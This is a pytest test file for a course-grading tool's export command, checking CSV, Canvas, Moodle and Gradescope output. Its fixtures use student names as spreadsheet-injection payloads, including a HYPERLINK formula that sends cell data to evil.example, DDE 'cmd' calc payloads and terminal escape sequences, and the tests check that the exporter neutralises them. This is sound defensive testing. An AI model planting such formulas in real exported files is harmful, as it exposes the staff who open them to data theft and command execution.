"""`enm5310 export`: each file is read as its system reads it, by rules written down anew, and hostile words sleep."""

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enm5310.grading import gradebook
from enm5310.grading.autograded import Graded
from enm5310.practice import Problem
from enm5310.reporting import exports, formats
from tests import courses
from tests.students import call
from tests.test_cli import terminal
from tests.test_gradebook import ERROR, HALF, LATE, ZERO, graded

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = {  # student -> (first name, last name, e-mail, the platform's number)
    "ada": ("Ada", "Lovelace, Countess", "ada@x.example", "345"),
    "bob": ('Robert "Bob"', "O'Brien\nJr", None, None),
    "-smith": (HYPERLINK, "+cmd|' /C calc'!A0", "@sum(1+1)*cmd|' /C calc'!A0", "12ab"),
    "+49 30 12": ("\t=1+1", "Ada;=1+1", "zoë@x.example", "7"),
    "half": ("Zoë", "Größe 漢字", "half@x.example", "8"),
    "lost": ("\x1b[2J\x1b]0;owned\x07", "Points Possible", None, "9"),
}
ABSENT = "zed", ("Zed", "=1+1", "zed@x.example", "10")  # is in the gradebook and has handed nothing in


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course folder whose gradebook has every kind of submission."""
    folder = courses.make(tmp_path_factory.mktemp("exports") / "Kurs für Zoë", config=ZERO)
    here, assignment = courses.entered(folder)
    from nbgrader.api import Gradebook

    with Gradebook(here.db_url) as book:
        book.update_or_create_assignment("ps1", duedate="2026-03-01 00:00:00 UTC")
        for student, (first, last, email, lms_id) in [*NAMES.items(), ABSENT]:
            book.update_or_create_student(student, first_name=first, last_name=last, email=email, lms_user_id=lms_id)
    with gradebook.Writer(here, assignment) as writer:
        for student in NAMES:
            late = {"timestamp": LATE} if student == "bob" else {}
            writer.write(graded(assignment, student, **late, halved=HALF, doubled=ERROR if student == "-smith" else ()))
        writer.write(Graded("lost", {"problem1": None}))
    with Gradebook(here.db_url) as book:
        for student in set(NAMES) - {"half", "lost"}:
            for cell, score in (("why", 2.5), ("draw", 1 / 3)):
                found = book.find_grade(cell, "problem1", "ps1", student)
                found.manual_score, found.needs_manual_grade = score, False
        book.db.commit()
    return folder


@pytest.fixture
def exported(course, tmp_path, monkeypatch):
    """to -> (exit code, the file's bytes)"""
    monkeypatch.chdir(course)

    def run(to):
        path = tmp_path / f"out.{to}"
        code = exports.export("ps1", to, path)
        return code, path.read_bytes()

    return run


def table(data, encoding="utf-8"):
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), strict=True))


FINAL = {"ada": "5.83", "bob": "2.83", "-smith": "3.83", "+49 30 12": "5.83"}  # 2 + 1 + 2.5 + 1/3; late: - 3


def test_csv_has_everybody_and_says_what_is_final(exported):
    code, data = exported("csv")
    assert code == 1 and data.startswith(b"\xef\xbb\xbfstudent,") and data.endswith(b"\r\n")
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    absent = rows.pop(ABSENT[0])
    assert (absent["status"], absent["score"], absent["why"]) == ("not handed in", "", "")
    assert (absent["last_name"], absent["email"], absent["lms_user_id"]) == ("'=1+1", "zed@x.example", "10")
    assert set(rows) == set(NAMES)
    assert {s: r["score"] for s, r in rows.items()} == {**FINAL, "half": "3", "lost": ""}
    assert {s: r["status"] for s, r in rows.items()} == {
        **dict.fromkeys(FINAL, "graded"), "half": "partly graded", "lost": "not graded"}  # fmt: skip
    assert rows["half"]["test-doubled"] == "2" and rows["half"]["why"] == rows["lost"]["test-doubled"] == ""
    assert rows["-smith"]["test-doubled"] == "0"  # nothing earned is not the same as not graded
    assert (rows["half"]["waiting"], rows["ada"]["waiting"], rows["bob"]["late_penalty"]) == ("2", "0", "3")
    assert (rows["bob"]["timestamp"], rows["ada"]["timestamp"]) == ("2026-03-03 12:00:00 UTC", "")
    for student, (first, last, email, lms_id) in NAMES.items():
        shown = [formats.unguarded(rows[student][field]) for field in ("first_name", "last_name", "email")]
        assert shown == [formats.line(text or "") for text in (first, last, email)]
        assert rows[student]["lms_user_id"] == (lms_id or "")
    assert rows["ada"]["last_name"] == "Lovelace, Countess" and rows["half"]["last_name"] == "Größe 漢字"


def spreadsheet_runs(cell):
    """Whether a spreadsheet would compute more than arithmetic from a cell, or from a part after a separator."""
    parts = [part.strip() for part in re.split(r"[;,|\t\r\n]", cell)]
    return any(part[:1] in tuple("=+-@＝＋－＠") and re.search(r"[(!|&\"\[]", cell) for part in parts)


@pytest.mark.parametrize("to", ["csv", "canvas", "moodle"])
def test_no_cell_is_run_by_a_spreadsheet(to, exported):
    _, data = exported(to)
    cells = [cell for row in table(data, "utf-8-sig") for cell in row]
    assert len(cells) > 20 and not [c for c in cells if spreadsheet_runs(c)]
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data)
    assert spreadsheet_runs(HYPERLINK) and spreadsheet_runs("Ada;=f(1)") and not spreadsheet_runs("-smith")


@given(st.text(alphabet=st.sampled_from("=+-@'; ,|\taé(＝\"") | st.characters(), max_size=12))
def test_what_is_guarded_can_be_taken_back_and_sleeps(text):
    shown = formats.guarded(text)
    assert formats.unguarded(shown) == formats.line(text)
    assert not any(part.strip()[:1] in tuple("=+-@＝＋－＠") for part in re.split(r"[;,|]", shown) if part.strip())


IDS = {  # id -> whether it can be written
    "ada": True, "-smith": True, "+49 30 12": True, "=x": True, "@bob": True, "Lovelace, Ada (2)": True, "": True,
    HYPERLINK: False, "=cmd|'x'!A1": False, "+f(1)": False, "@SUM(A1)": False, "a;=f(1)": False, "a\tb": False,
    "a\nb": False, "a\x1b[2J": False, "＝f(1)": False, "a\u202eb": False,
}  # fmt: skip


@pytest.mark.parametrize("id", IDS)
def test_an_id_is_written_as_it_is_or_not_at_all(id):
    if IDS[id]:
        assert formats.exact(id) == id
    else:
        with pytest.raises(formats.Unsafe):
            formats.exact(id)


# -------------------- Canvas --------------------


def canvas(rows, known):
    """{user: score} by the rules of Canvas's importer; known: {Canvas's number: login id}."""
    header, first, *students = rows
    assert len(header) > 3 and "Student" in header[0] and "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4] and "Points Possible" in first[0]
    found = {}
    for row in students:
        assert "Points Possible" not in row[0] and row[5] not in ("", "-")
        number = int(re.match(r"\d*", row[1])[0] or 0)  # Ruby's to_i
        user = known.get(number) or next((login for login in known.values() if login == row[3]), None)
        found[user or f"new user {row[0]}"] = row[5]
    return float(first[5]), found


def test_canvas_finds_everybody_and_clears_nothing(exported):
    code, data = exported("canvas")
    assert code == 1 and not data.startswith(b"\xef\xbb\xbf")
    known = {345: "ada", 12: "somebody else", 7: "+49 30 12", 8: "half", 9: "lost", 11: "bob", 13: "-smith"}
    assert canvas(table(data), known) == (12.0, FINAL)
    assert table(data)[0][5] == "ps1"


ROW = exports.Row("x", "Ada", None, None, "3", "graded", 1.0, 2.0, 0.0, 0, "", {("p", "a"): 1.0}, {("p", "a"): 2.0})


def test_canvas_is_not_told_other_points_by_a_name(exported):
    evil = ROW._replace(student="x Points Possible", last_name="Points Possible", lms_id=None)
    assert canvas(table(formats.as_canvas("ps1", [ROW, evil])), {3: "x"})[0] == 2.0
    for name in ("Final Score", "Unposted Current Grade of ps1"):
        with pytest.raises(formats.Unsafe):
            formats.as_canvas(name, [])


# -------------------- Moodle --------------------


def test_moodle_takes_the_file_in_both_ways(exported):
    code, data = exported("moodle")
    rows = table(data)
    assert code == 1 and {len(row) for row in rows} == {7}
    at = {title: rows[0].index(title) for title in ("Identifier", "ID number", "Grade", "Last modified (grade)")}
    assert {row[at["ID number"]]: row[at["Grade"]] for row in rows[1:]} == FINAL  # Grades > Import: no unknown user
    numbers = {row[at["Identifier"]][len("Participant ") :]: row[at["Grade"]] for row in rows[1:]}
    assert numbers == {"345": "5.83", "7": "5.83", "": "2.83"}  # the worksheet: others are passed over
    assert {row[at["Last modified (grade)"]] for row in rows[1:]} == {"-"}  # no date: newer grades are kept


# -------------------- Gradescope --------------------


@pytest.fixture
def gradescope(exported, tmp_path):
    """(users) -> (exit code, results or None, what was said) of the archive, unpacked and run as Gradescope does."""
    code, data = exported("gradescope")
    assert code == 1
    where = tmp_path / "autograder"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(where / "source")
        assert {i.filename: i.external_attr >> 16 for i in archive.infolist()} == {
            "setup.sh": 0o755, "run_autograder": 0o755, "scores.json": 0o644}  # fmt: skip

    def run(*users):
        (where / "submission_metadata.json").write_text(json.dumps({"users": users}))
        results = where / "results" / "results.json"
        results.unlink(missing_ok=True)
        command = [sys.executable, where / "source" / "run_autograder", where]
        done = subprocess.run(command, capture_output=True, text=True)
        return done.returncode, json.loads(results.read_text()) if results.exists() else None, done.stderr

    return run


def test_gradescope_gives_each_student_the_score_that_was_found(gradescope):
    code, results, _ = gradescope({"email": "ada@x.example", "id": 1, "name": "anybody"})
    assert code == 0 and results["score"] == pytest.approx(35 / 6, abs=1e-4) and results["output"] == ""
    tests = {t["name"]: (t["score"], t["max_score"]) for t in results["tests"]}
    assert tests == {"test-doubled": (2, 2), "test-halved": (1, 2), "why": (2.5, 3), "draw": (0.3333, 5)}
    _, results, _ = gradescope({"email": "bob@elsewhere.example"})
    assert results["score"] == pytest.approx(17 / 6, abs=1e-4)
    assert results["output"] == "3 points are taken off for being late."
    assert gradescope({"email": "x@y", "sid": "-smith"})[1]["score"] == pytest.approx(23 / 6, abs=1e-4)


def test_gradescope_gives_nothing_that_is_not_final_and_nothing_by_name(gradescope):
    for user in ({"email": "half@x.example"}, {"email": "lost@x"}, {"email": "eve@x", "name": "ada"}, {"email": None}):
        code, results, said = gradescope(user)
        assert code == 1 and results is None and "no final score" in said and said.count("\n") == 1
    code, results, said = gradescope({"email": "ada@x.example"}, {"email": "bob@x"})
    assert code == 1 and results is None and "different scores" in said
    assert gradescope({"email": "ada@x.example"}, {"email": "eve@x"})[1] is not None


def test_gradescope_gives_nobody_the_score_of_somebody_else(tmp_path):
    known, plain = ROW._replace(student="ada", email="ada@x.example"), ROW._replace(student="eve", email=None)
    archive = zipfile.ZipFile(io.BytesIO(formats.as_gradescope("ps1", [known, plain._replace(score=0.5)])))
    archive.extractall(tmp_path / "source")

    def score(**user):
        (tmp_path / "submission_metadata.json").write_text(json.dumps({"users": [user]}))
        command = [sys.executable, tmp_path / "source" / "run_autograder", tmp_path]
        done = subprocess.run(command, capture_output=True, text=True)
        return None if done.returncode else json.loads((tmp_path / "results" / "results.json").read_text())["score"]

    assert score(sid="bob", email="ada@elsewhere.example") is None  # bob has no final score
    assert score(email="ada@elsewhere.example") is None  # ada's address is known, and it is another
    assert score(sid="7", email="ADA@x.example") == round(ROW.score, 4)
    assert score(email="eve@anywhere.example") == 0.5 and score(sid="bob", email="eve@anywhere.example") is None


def test_a_cell_without_a_score_is_not_final():
    done = SimpleNamespace(auto=5.0, manual=None, score=5.0, max_score=5.0, waiting=False)
    open_ = SimpleNamespace(auto=None, manual=None, score=0.0, max_score=5.0, waiting=False)
    who = SimpleNamespace(student="ada", first_name=None, last_name=None, email=None, lms_id=None, timestamp=None,
                          cells={("p", "a"): done, ("p", "b"): open_}, final=5.0, penalty=0.0)  # fmt: skip
    assert exports.row_of(who, 10.0).status == "partly graded"


# -------------------- the command --------------------


def test_the_same_scores_are_the_same_bytes(exported):
    for to in formats.FORMATS:
        assert exported(to) == exported(to)


def test_the_screen_names_who_is_not_final(course, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(course)
    assert exports.export("ps1", "moodle", tmp_path / "x.csv") == 1
    first, partly, nothing, absent, how = capsys.readouterr().out.splitlines()
    assert first == f"{tmp_path}/x.csv: final scores of 4 of 6 submissions of ps1"
    assert partly == "! 1 partly graded, not in the file: half" and nothing == "! 1 not graded, not in the file: lost"
    assert absent == "! 1 handed nothing in, not in the file: zed"
    assert how.startswith("In Moodle: ")
    monkeypatch.chdir(course / "source")
    assert exports.export("ps1", "csv") == 1 and (course / "source" / "ps1-csv.csv").is_file()
    assert "! 1 partly graded, with the score so far: half" in capsys.readouterr().out
    (course / "source" / "ps1-csv.csv").unlink()


def test_a_terminal_of_80_columns_is_wide_enough(course):
    text, _ = terminal(course, 80, "export", "ps1", "--to", "canvas", "--out", "x.csv")
    (course / "x.csv").unlink()
    assert text.count("\n") == 5 and max(map(len, text.splitlines())) <= 80


def test_an_id_that_cannot_be_written_is_named_and_costs_nobody_else(course, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(course)
    evil = '=HYPERLINK("x")\x1b[2J'
    cell = SimpleNamespace(auto=1.0, manual=None, score=1.0, max_score=2.0, waiting=False)
    who = SimpleNamespace(student="ada", first_name=None, last_name=None, email=None, lms_id=None, timestamp=None,
                          cells={("p", "a"): cell}, final=1.0, penalty=0.0)  # fmt: skip
    there = {"ada": who, evil: SimpleNamespace(**{**vars(who), "student": evil})}
    monkeypatch.setattr(exports.records, "read", lambda *_: SimpleNamespace(standings=there, max_score=2.0, absent=()))
    for to in ("csv", "canvas", "moodle", "gradescope"):
        assert exports.export("ps1", to, tmp_path / "out") == 1
        data = (tmp_path / "out").read_bytes()
        assert b"HYPERLINK" not in data
        said = capsys.readouterr().out
        assert "final scores of 1 of 2 submissions" in said and "HYPERLINK" in said and "left out of the file" in said
        assert "\x1b" not in said
    del there[evil]
    assert exports.export("ps1", "canvas", tmp_path / "out") == 0


USAGE = {
    ("--to", "excel"): "'excel' is not one of 'csv', 'canvas', 'gradescope', 'moodle'",
    (): "Missing option '--to'",
    ("--to", "csv", "--out", "gone/x.csv"): "--out gone/x.csv cannot be written there",
}


@pytest.mark.parametrize("arguments", USAGE, ids=" ".join)
def test_wrong_usage_is_one_line(arguments, course):
    run = call("export", "ps1", *arguments, cwd=course)
    assert (run.returncode, run.stdout) == (2, ""), run.stdout
    assert USAGE[arguments] in run.stderr and run.stderr.count("\n") == 1


def test_what_cannot_be_exported_is_said(course, tmp_path, monkeypatch):
    monkeypatch.chdir(courses.make(tmp_path / "fresh"))
    for assignment, words in (("ps1", "no grades of ps1 yet: run `enm5310 grade ps1`"), ("ps2", "no assignment 'ps2'")):
        with pytest.raises(Problem, match=words):
            exports.export(assignment, "canvas")
    assert not (tmp_path / "fresh" / "gradebook.db").exists()
    monkeypatch.chdir(course)
    monkeypatch.setattr(exports, "row_of", lambda standing, most: ROW._replace(status="not graded"))
    with pytest.raises(Problem, match="no score of ps1 is final yet"):
        exports.export("ps1", "canvas", tmp_path / "out")
